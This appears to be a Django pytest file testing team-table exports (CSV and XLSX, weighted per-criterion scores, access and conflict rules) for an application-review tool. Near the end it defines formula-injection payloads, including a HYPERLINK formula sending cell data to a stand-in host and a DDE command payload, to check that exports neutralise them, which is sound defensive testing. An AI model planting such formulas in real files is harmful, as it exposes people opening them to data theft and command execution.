"""Exports of the team table: CSV with a byte-order mark, XLSX, scores per criterion."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.applications.staff_helpers import World
from tests.factories import AdminFactory

pytestmark = pytest.mark.django_db


def _export(client, url):
    """Ask for the export (a worker prepares it; eager in tests), follow the job page,
    download the file."""
    response = client.post(url, follow=True)
    assert response.status_code == 200
    job = response.context["job"]
    assert job.state == "done"
    download = client.get(reverse("staff:job_download", args=[job.pk]))
    assert download.status_code == 200
    return Downloaded(download)


class Downloaded:
    def __init__(self, response):
        self.response = response
        self.status_code = response.status_code
        self.content = b"".join(response.streaming_content)

    def __getitem__(self, header):
        return self.response[header]


@pytest.fixture
def world():
    world = World(hide_reviews=False)
    world.target = world.application(world.a, title="Énergie partagée")
    world.submitted_review(world.target, world.reviewer_a, [4, 1])
    world.submitted_review(world.target, world.reviewer_a2, [2, 3])
    world.application(world.b, title="Projet de B")
    return world


def test_csv_has_a_bom_and_the_score_per_criterion(client, world):
    client.force_login(world.manager_a)
    response = _export(client, reverse("staff:dashboard_export", args=[world.a.pk, "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    header, row = text.strip().splitlines()
    assert "Innovation (coef. 2)" in header and "Faisabilité (coef. 1)" in header
    assert "Énergie partagée" in row
    assert "Projet de B" not in text
    cells = row.split(";")
    # Innovation mean 3, Faisabilité mean 2, weighted (8+1+4+3)/6 = 2.67
    assert "3,0" in cells and "2,0" in cells and "2,67" in cells


def test_xlsx_export(client, world):
    client.force_login(world.reviewer_a)
    response = _export(client, reverse("staff:dashboard_export", args=[world.a.pk, "xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Référence"
    assert rows[1][3] == "Énergie partagée"
    assert len(rows) == 2


def test_admin_exports_a_whole_call(client, world):
    client.force_login(AdminFactory())
    response = _export(client, reverse("staff:call_export", args=[world.call.pk, "xlsx"]))
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert {r[3] for r in rows[1:]} == {"Énergie partagée", "Projet de B"}


def test_other_commune_and_unknown_format(client, world):
    client.force_login(world.reviewer_b)
    assert (
        client.get(reverse("staff:dashboard_export", args=[world.a.pk, "csv"])).status_code == 404
    )
    assert client.get(f"/equipe/tableau/{world.b.pk}/export.pdf").status_code == 404


def test_conflicted_reviewer_exports_no_scores(client, world):
    from applications.services.review import declare_conflict
    from tests.applications.staff_helpers import refresh

    declare_conflict(user=world.reviewer_a, target=refresh(world.target))
    client.force_login(world.reviewer_a)
    text = _export(client, reverse("staff:dashboard_export", args=[world.a.pk, "csv"])).content
    row = text.decode("utf-8-sig").strip().splitlines()[1].split(";")
    assert "2,0" not in row  # no per-criterion mean
    assert "3,0" not in row


FORMULAS = {
    "title": '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
    "organisation": "+cmd|' /C calc'!A0",
    "challenge": "@SUM(1+1)",
    "reason": "-2+3",
    "motivation": "\tRetenu",
}


@pytest.fixture
def hostile(world):
    from applications.models import ApplicationTarget
    from tests.factories import ChallengeFactory

    target = world.application(
        world.a, title=FORMULAS["title"], organisation__name=FORMULAS["organisation"]
    )
    target.application.challenges.add(
        ChallengeFactory(participation=world.a, title=FORMULAS["challenge"])
    )
    ApplicationTarget.objects.filter(pk=target.pk).update(
        eligibility_reason=FORMULAS["reason"],
        decision=ApplicationTarget.Decision.NOT_SELECTED,
        decision_motivation=FORMULAS["motivation"],
    )
    world.submitted_review(target, world.reviewer_a, [4, 1])
    return target


def test_csv_neutralises_formulas_and_keeps_numbers(client, world, hostile):
    import csv

    client.force_login(world.manager_a)
    response = _export(client, reverse("staff:dashboard_export", args=[world.a.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if r[0] == hostile.application.reference)
    for text in FORMULAS.values():
        assert "'" + text in row
        assert text not in row
    # Weighted (8 + 1) / 3 = 3.0, still a plain number.
    assert "3,0" in row


def test_xlsx_neutralises_formulas_in_string_cells(client, world, hostile):
    client.force_login(world.manager_a)
    response = _export(client, reverse("staff:dashboard_export", args=[world.a.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == hostile.application.reference)
    texts = {cell.value: cell.data_type for cell in row if isinstance(cell.value, str)}
    for text in FORMULAS.values():
        assert texts.get("'" + text) == "s"
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
    scores = [cell.value for cell in row if cell.data_type == "n" and cell.value is not None]
    assert 3 in scores  # the weighted score, still a number
